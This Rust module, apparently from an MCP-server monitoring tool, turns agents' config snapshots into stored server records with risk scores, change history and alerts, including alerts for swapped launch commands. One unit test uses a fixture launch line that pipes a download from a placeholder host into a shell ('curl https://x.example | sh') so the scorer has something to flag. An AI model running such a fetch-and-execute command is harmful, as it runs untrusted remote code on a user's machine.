//! Report semantics: how one agent's full snapshot changes its stored servers.
//!
//! Pure: given the agent's stored servers and the snapshot, [`plan`] decides which
//! servers are created, updated, reactivated or become dormant, scores each one with
//! `protocol`'s rules, records what changed, and decides which alerts to raise;
//! [`combine`] then adds the dangerous combinations of the resulting inventory, and
//! [`agent`] updates the agent's own record. [`rescore`] scores stored servers again
//! under newer rules or policy. Every store backend applies what these answer; none
//! decides it.

pub mod agent;
mod combine;
pub mod rescore;

use chrono::{DateTime, Utc};
use mcpwatch_protocol::ids::{AgentId, OrgId, ServerId};
use mcpwatch_protocol::risk::{self, RiskLevel};
use mcpwatch_protocol::server::ServerRecord;
use mcpwatch_protocol::wire::ReportResponse;
use sha2::{Digest, Sha256};

pub use combine::{combination_alert, combine};

use crate::alerts::{self, RiseCause};
use crate::model::{Alert, ChangeKind, OrgPolicy, Server, ServerChange, ServerStatus};

/// One server to write, with its stored version (for index upkeep) and the change to
/// add to its history, if any.
#[derive(Debug)]
pub struct ServerWrite {
    pub before: Option<Server>,
    pub after: Server,
    pub change: Option<ServerChange>,
}

impl ServerWrite {
    /// A write that adds nothing to the server's history.
    pub fn silent(before: Option<Server>, after: Server) -> Self {
        Self {
            before,
            after,
            change: None,
        }
    }

    /// A new server's write: its history starts at `created`, numbered 0 and not
    /// stored (the server's first sighting says it; see [`crate::model::history`]).
    pub fn created(mut after: Server) -> Self {
        after.change_seq = 1;
        Self::silent(None, after)
    }

    /// A write that records `change` in the server's history (numbered after the
    /// stored version's changes).
    pub fn recording(before: Option<Server>, mut after: Server, change: ServerChange) -> Self {
        after.change_seq = before.as_ref().map_or(0, |b| b.change_seq) + 1;
        Self {
            before,
            after,
            change: Some(change),
        }
    }
}

/// What applying a snapshot does.
#[derive(Debug, Default)]
pub struct Plan {
    pub writes: Vec<ServerWrite>,
    /// Stored servers the snapshot leaves as they are.
    pub untouched: Vec<Server>,
    pub alerts: Vec<Alert>,
    pub outcome: ReportResponse,
    /// Servers in the snapshot (after de-duplication).
    pub active_count: u64,
}

/// The identity of a server within its agent: client, config path and name.
pub fn identity_key(record: &ServerRecord) -> [u8; 32] {
    let mut hasher = Sha256::new();
    for part in [
        record.client.as_deref().unwrap_or(""),
        record.config_path.as_deref().unwrap_or(""),
        record.server_name.as_str(),
    ] {
        hasher.update((part.len() as u64).to_be_bytes());
        hasher.update(part.as_bytes());
    }
    hasher.finalize().into()
}

/// Score a record into a fresh server (not yet stored).
fn scored(
    org: OrgId,
    agent: AgentId,
    record: ServerRecord,
    policy: &OrgPolicy,
    now: DateTime<Utc>,
) -> Server {
    let assessment = risk::assess_with(&record, &policy.scoring);
    Server {
        id: ServerId::new(),
        org_id: org,
        agent_id: agent,
        fingerprint: record.compute_fingerprint(),
        record,
        risk_score: assessment.score,
        risk_level: assessment.level,
        findings: assessment.findings,
        rules_version: assessment.rules_version,
        status: ServerStatus::Active,
        policy_version: policy.version,
        in_snapshot: true,
        is_verified: false,
        verified_by: None,
        verified_at: None,
        first_seen_at: now,
        last_seen_at: now,
        updated_at: now,
        change_seq: 0,
    }
}

/// The names of the record fields whose values differ.
fn changed_fields(before: &ServerRecord, after: &ServerRecord) -> Vec<String> {
    if before == after {
        return Vec::new();
    }
    let (Ok(serde_json::Value::Object(a)), Ok(serde_json::Value::Object(b))) =
        (serde_json::to_value(before), serde_json::to_value(after))
    else {
        return vec!["record".to_owned()];
    };
    let mut fields: Vec<String> = a
        .keys()
        .chain(b.keys())
        .filter(|k| a.get(*k) != b.get(*k))
        .cloned()
        .collect();
    fields.sort();
    fields.dedup();
    fields
}

fn is_blocked(server: &Server) -> bool {
    server
        .findings
        .iter()
        .any(|f| f.rule_id == risk::BLOCKED_RULE)
}

/// Whether a server was scored under other rules or another policy version.
pub fn is_outdated(server: &Server, policy_version: u64) -> bool {
    scored_by_other(server.rules_version, server.policy_version, policy_version)
}

/// [`is_outdated`] from the versions a server was scored under, and the policy's now.
pub fn scored_by_other(rules_version: u32, scored_policy: u64, policy_version: u64) -> bool {
    rules_version != risk::RULES_VERSION || scored_policy != policy_version
}

/// The snapshot without repeats: the last entry wins when a snapshot names the same
/// server twice (found by hash: a 10,000-server report must not cost 50 million
/// comparisons).
fn deduplicated(snapshot: Vec<ServerRecord>) -> Vec<([u8; 32], ServerRecord)> {
    let mut incoming: Vec<([u8; 32], ServerRecord)> = Vec::with_capacity(snapshot.len());
    let mut at: std::collections::HashMap<[u8; 32], usize> =
        std::collections::HashMap::with_capacity(snapshot.len());
    for record in snapshot {
        let key = identity_key(&record);
        match at.get(&key) {
            Some(&i) => incoming[i].1 = record,
            None => {
                at.insert(key, incoming.len());
                incoming.push((key, record));
            }
        }
    }
    incoming
}

/// Decide what a snapshot does to an agent's stored servers.
pub fn plan(
    org: OrgId,
    agent: AgentId,
    existing: Vec<(Server, [u8; 32])>,
    snapshot: Vec<ServerRecord>,
    policy: &OrgPolicy,
    now: DateTime<Utc>,
) -> Plan {
    let mut plan = Plan {
        outcome: ReportResponse {
            status: "ok".to_owned(),
            received: snapshot.len(),
            ..ReportResponse::default()
        },
        ..Plan::default()
    };
    let incoming = deduplicated(snapshot);
    plan.active_count = incoming.len() as u64;

    let mut stored: Vec<Option<(Server, [u8; 32])>> = existing.into_iter().map(Some).collect();
    let mut stored_at: std::collections::HashMap<[u8; 32], usize> =
        std::collections::HashMap::with_capacity(stored.len());
    for (i, slot) in stored.iter().enumerate() {
        if let Some((_, k)) = slot {
            stored_at.entry(*k).or_insert(i);
        }
    }
    for (key, record) in incoming {
        let found = stored_at
            .get(&key)
            .and_then(|&i| stored.get_mut(i))
            .and_then(Option::take);
        match found {
            None => created(
                &mut plan,
                scored(org, agent, record, policy, now),
                policy,
                now,
            ),
            Some((before, _)) => reported_again(&mut plan, before, record, policy, now),
        }
    }
    for (before, _) in stored.into_iter().flatten() {
        gone(&mut plan, before, now);
    }
    plan.outcome.alerts_raised = plan.alerts.len();
    plan
}

/// A server the agent reports for the first time.
fn created(plan: &mut Plan, server: Server, policy: &OrgPolicy, now: DateTime<Utc>) {
    if policy.approves(&server.record) {
        // Approved: reported, no alert.
    } else if is_blocked(&server) {
        plan.alerts.push(alerts::blocked_package(&server, now));
    } else if server.risk_level >= RiskLevel::High {
        plan.alerts.push(alerts::new_risky_server(&server, now));
    }
    plan.outcome.created += 1;
    plan.writes.push(ServerWrite::created(server));
}

/// A stored server the snapshot names again: unchanged, or updated (and perhaps
/// reactivated, or rescored), with the alert its change calls for.
fn reported_again(
    plan: &mut Plan,
    before: Server,
    record: ServerRecord,
    policy: &OrgPolicy,
    now: DateTime<Utc>,
) {
    let reactivated = before.status == ServerStatus::Dormant;
    let fields = changed_fields(&before.record, &record);
    if fields.is_empty() && !reactivated && !is_outdated(&before, policy.version) {
        plan.outcome.unchanged += 1;
        plan.untouched.push(before);
        return;
    }
    let fresh = scored(before.org_id, before.agent_id, record, policy, now);
    let mut after = Server {
        id: before.id,
        first_seen_at: before.first_seen_at,
        is_verified: before.is_verified,
        verified_by: before.verified_by,
        verified_at: before.verified_at,
        ..fresh
    };
    let launch_changed = after.fingerprint != before.fingerprint;
    if launch_changed {
        // A verification covers what was verified, not what replaced it.
        after.is_verified = false;
        after.verified_by = None;
        after.verified_at = None;
    }
    let kind = if reactivated {
        ChangeKind::Reactivated
    } else {
        ChangeKind::Updated
    };
    let change = ServerChange {
        fields,
        previous_fingerprint: Some(before.fingerprint.clone()),
        fingerprint: Some(after.fingerprint.clone()),
        previous_level: Some(before.risk_level),
        level: Some(after.risk_level),
        previous_command: launch_changed.then(|| before.record.launch_line()),
        command: launch_changed.then(|| after.record.launch_line()),
        ..ServerChange::event(now, kind, &[])
    };
    let watched = !after.is_verified && !policy.approves(&after.record);
    if watched && is_blocked(&after) && !is_blocked(&before) {
        plan.alerts.push(alerts::blocked_package(&after, now));
    } else if watched && launch_changed {
        plan.alerts
            .push(alerts::server_changed(&before, &after, now));
    } else if watched && after.risk_level > before.risk_level {
        plan.alerts.push(alerts::risk_increased(
            &before,
            &after,
            RiseCause::Reported,
            now,
        ));
    }
    plan.outcome.updated += 1;
    plan.writes
        .push(ServerWrite::recording(Some(before), after, change));
}

/// A stored server the snapshot no longer names: dormant (if it was not already).
fn gone(plan: &mut Plan, before: Server, now: DateTime<Utc>) {
    if !before.in_snapshot {
        plan.untouched.push(before);
        return;
    }
    let mut after = before.clone();
    after.status = ServerStatus::Dormant;
    after.in_snapshot = false;
    after.updated_at = now;
    plan.outcome.dormant += 1;
    plan.writes.push(ServerWrite::recording(
        Some(before),
        after,
        ServerChange::event(now, ChangeKind::Dormant, &[]),
    ));
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::model::AlertKind;

    /// A Cursor server running `npx` with `args`.
    pub(crate) fn record(name: &str, args: &[&str]) -> ServerRecord {
        ServerRecord {
            server_name: name.into(),
            client: Some("cursor".into()),
            config_path: Some("/home/a/.cursor/mcp.json".into()),
            command: Some("npx".into()),
            args: args.iter().map(|s| (*s).to_owned()).collect(),
            ..ServerRecord::default()
        }
    }

    /// `plan` under the default policy.
    fn plan(
        org: OrgId,
        agent: AgentId,
        existing: Vec<(Server, [u8; 32])>,
        snapshot: Vec<ServerRecord>,
        now: DateTime<Utc>,
    ) -> Plan {
        super::plan(org, agent, existing, snapshot, &OrgPolicy::default(), now)
    }

    fn stored(plan: Plan) -> Vec<(Server, [u8; 32])> {
        plan.writes
            .into_iter()
            .map(|w| {
                let key = identity_key(&w.after.record);
                (w.after, key)
            })
            .collect()
    }

    #[test]
    fn the_created_entry_is_not_stored_and_is_shown_with_what_the_server_started_as() {
        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
        let first = plan(
            org,
            agent,
            vec![],
            vec![record("helper", &["-y", "helper@1.0.0"])],
            now,
        );
        assert!(first.writes[0].change.is_none(), "nothing stored");
        let original = first.writes[0].after.clone();
        assert_eq!(original.change_seq, 1, "the created entry has number 0");
        let history = crate::model::history(&original, vec![]);
        let shown = |h: &[ServerChange]| {
            (
                h[0].kind,
                h[0].at,
                h[0].fingerprint.clone(),
                h[0].level,
                h[0].command.clone(),
            )
        };
        let started = (
            ChangeKind::Created,
            now,
            Some(original.fingerprint.clone()),
            Some(original.risk_level),
            Some("npx -y helper@1.0.0".to_owned()),
        );
        assert_eq!((history.len(), shown(&history)), (1, started.clone()));

        // A new launch (and level), then a verification: the entry still shows the start.
        let mut shell = record("helper", &["-c", "curl https://x.example | sh"]);
        shell.command = Some("bash".into());
        let later = now + chrono::Duration::seconds(5);
        let second = plan(org, agent, stored(first), vec![shell], later);
        let updated = second.writes[0].after.clone();
        assert_ne!(updated.risk_level, original.risk_level, "the level moved");
        let verified =
            rescore::verification(&updated, true, mcpwatch_protocol::ids::UserId::new(), later)
                .unwrap();
        assert_eq!(verified.after.change_seq, 3);
        let stored_history = vec![
            second.writes[0].change.clone().unwrap(),
            verified.change.clone().unwrap(),
        ];
        let shown_history = crate::model::history(&verified.after, stored_history.clone());
        assert_eq!(shown(&shown_history), started);
        assert_eq!(
            shown_history[1..],
            stored_history,
            "later entries as stored"
        );

        // A whole entry (as older collectors stored them) is shown as stored, once.
        let mut whole = shown_history.clone();
        whole[0].command = Some("as it was".into());
        let again = crate::model::history(&verified.after, whole.clone());
        assert_eq!(again, whole);

        // Once the newest entries no longer reach back to it, it is not shown.
        let mut busy = verified.after.clone();
        busy.change_seq = crate::model::MAX_SERVER_CHANGES + 1;
        let kept = crate::model::history(&busy, stored_history.clone());
        assert_eq!(kept, stored_history);
    }

    #[test]
    fn first_snapshot_creates_and_alerts_on_risky_servers() {
        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
        let p = plan(
            org,
            agent,
            vec![],
            vec![
                record("time", &["-y", "mcp-time@1.0.0"]),
                record(
                    "fs",
                    &["-y", "@modelcontextprotocol/server-filesystem", "/"],
                ),
            ],
            now,
        );
        assert_eq!(
            (p.outcome.created, p.outcome.updated, p.outcome.dormant),
            (2, 0, 0)
        );
        assert_eq!(p.alerts.len(), 1);
        assert_eq!(p.alerts[0].kind, AlertKind::NewRiskyServer);
        assert_eq!(p.alerts[0].severity, RiskLevel::Critical);
    }

    #[test]
    fn same_snapshot_twice_changes_nothing() {
        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
        let snapshot = vec![record("time", &["-y", "mcp-time@1.0.0"])];
        let first = plan(org, agent, vec![], snapshot.clone(), now);
        let second = plan(org, agent, stored(first), snapshot, now);
        assert!(second.writes.is_empty());
        assert_eq!(second.outcome.unchanged, 1);
    }

    #[test]
    fn a_changed_command_is_a_rug_pull_alert_and_clears_verification() {
        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
        let first = plan(
            org,
            agent,
            vec![],
            vec![record("helper", &["-y", "helper@1.0.0"])],
            now,
        );
        let mut existing = stored(first);
        existing[0].0.is_verified = true;
        let p = plan(
            org,
            agent,
            existing,
            vec![record("helper", &["-y", "evil@6.6.6"])],
            now,
        );
        assert_eq!(p.outcome.updated, 1);
        assert_eq!(p.alerts.len(), 1);
        assert_eq!(p.alerts[0].kind, AlertKind::ServerChanged);
        let after = &p.writes[0].after;
        assert!(!after.is_verified);
        assert_eq!(after.change_seq, 2);
        let change = p.writes[0].change.as_ref().unwrap();
        assert!(change.fields.contains(&"args".to_owned()), "{change:?}");
        assert_eq!(
            change.previous_command.as_deref(),
            Some("npx -y helper@1.0.0")
        );
    }

    #[test]
    fn a_verified_server_whose_metadata_changes_raises_no_alert() {
        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
        let first = plan(
            org,
            agent,
            vec![],
            vec![record(
                "fs",
                &[
                    "-y",
                    "@modelcontextprotocol/server-filesystem@1.0.0",
                    "/tmp",
                ],
            )],
            now,
        );
        let mut existing = stored(first);
        existing[0].0.is_verified = true;
        let mut changed = record(
            "fs",
            &[
                "-y",
                "@modelcontextprotocol/server-filesystem@1.0.0",
                "/tmp",
            ],
        );
        changed.auto_approve = vec!["*".into()];
        let p = plan(org, agent, existing, vec![changed], now);
        assert_eq!(p.outcome.updated, 1);
        assert!(p.alerts.is_empty(), "{:?}", p.alerts);
        assert!(p.writes[0].after.is_verified);
    }

    #[test]
    fn missing_servers_become_dormant_and_come_back() {
        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
        let a = record("a", &["a@1.0.0"]);
        let b = record("b", &["b@1.0.0"]);
        let first = plan(org, agent, vec![], vec![a.clone(), b.clone()], now);
        let second = plan(org, agent, stored(first), vec![a.clone()], now);
        assert_eq!(second.outcome.dormant, 1);
        assert_eq!(second.active_count, 1);
        let mut all: Vec<(Server, [u8; 32])> = stored(second);
        // `a` was unchanged, so it is not in the writes; add it back as stored.
        let fresh_a = plan(org, agent, vec![], vec![a.clone()], now);
        all.extend(stored(fresh_a));
        let third = plan(org, agent, all, vec![a, b], now);
        assert_eq!(third.outcome.updated, 1);
        let revived = third
            .writes
            .iter()
            .find(|w| w.after.record.server_name == "b")
            .unwrap();
        assert_eq!(revived.after.status, ServerStatus::Active);
        assert_eq!(revived.change.as_ref().unwrap().kind, "reactivated");
    }

    #[test]
    fn approved_servers_are_silent_and_blocked_ones_alert() {
        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
        let risky = record(
            "fs",
            &[
                "-y",
                "@modelcontextprotocol/server-filesystem@2026.9.1",
                "/",
            ],
        );
        let approved = OrgPolicy {
            approved: vec!["FS".into()],
            ..OrgPolicy::default()
        };
        let p = super::plan(org, agent, vec![], vec![risky.clone()], &approved, now);
        assert!(p.alerts.is_empty());
        assert_eq!(
            p.writes[0].after.risk_level,
            RiskLevel::Critical,
            "findings are kept"
        );
        let mut blocked = OrgPolicy {
            version: 3,
            ..OrgPolicy::default()
        };
        blocked.scoring.blocked = vec!["helper".into()];
        let p = super::plan(
            org,
            agent,
            vec![],
            vec![record("h", &["-y", "helper@1.0.0"])],
            &blocked,
            now,
        );
        assert_eq!(p.alerts.len(), 1);
        assert_eq!(p.alerts[0].kind, AlertKind::BlockedPackage);
        assert_eq!(p.writes[0].after.policy_version, 3);
        // A policy change rescoring an unchanged server.
        let first = plan(
            org,
            agent,
            vec![],
            vec![record("h", &["-y", "helper@1.0.0"])],
            now,
        );
        let p = super::plan(
            org,
            agent,
            stored(first),
            vec![record("h", &["-y", "helper@1.0.0"])],
            &blocked,
            now,
        );
        assert_eq!(p.outcome.updated, 1);
        assert_eq!(p.alerts[0].kind, AlertKind::BlockedPackage);
    }

    #[test]
    fn duplicate_names_in_one_snapshot_count_once() {
        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
        let p = plan(
            org,
            agent,
            vec![],
            vec![record("x", &["x@1"]), record("x", &["x@2"])],
            now,
        );
        assert_eq!(p.outcome.received, 2);
        assert_eq!(p.outcome.created, 1);
        assert_eq!(p.writes[0].after.record.args, ["x@2"]);
    }
}
